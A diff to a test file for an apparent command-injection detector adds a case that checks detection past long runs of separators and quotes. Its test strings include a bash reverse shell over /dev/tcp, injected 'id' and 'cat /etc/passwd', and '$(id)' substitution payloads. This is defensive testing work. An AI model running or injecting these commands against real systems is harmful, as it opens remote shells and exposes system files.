@@ -170,6 +170,14 @@ describe('cmd', () => {
       expect(p1.first('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')?.rule).toBe('cmd-reverse-shell')
     }
   })
+  it('reads past a run of separators, blanks and quotes to the word after it', () => {
+    for (const run of ["';".repeat(3000), ';|&'.repeat(2000), '; "\n'.repeat(1500), '&& | '.repeat(1500)]) {
+      const cmd = (s: string) => p1.all(s).some((f) => f.tag === 'ws-cmd-injection')
+      expect(cmd(`${run}id`), run.slice(0, 4)).toBe(true)
+      expect(cmd(`ok${run}cat /etc/passwd`), run.slice(0, 4)).toBe(true)
+      expect(cmd(`${run}cats are great`), run.slice(0, 4)).toBe(false)
+    }
+  })
   it('names the rule', () => {
     expect(p1.first(';id')?.rule).toBe('cmd-separator-command')
     expect(p1.first('$(id)')?.rule).toBe('cmd-substitution')
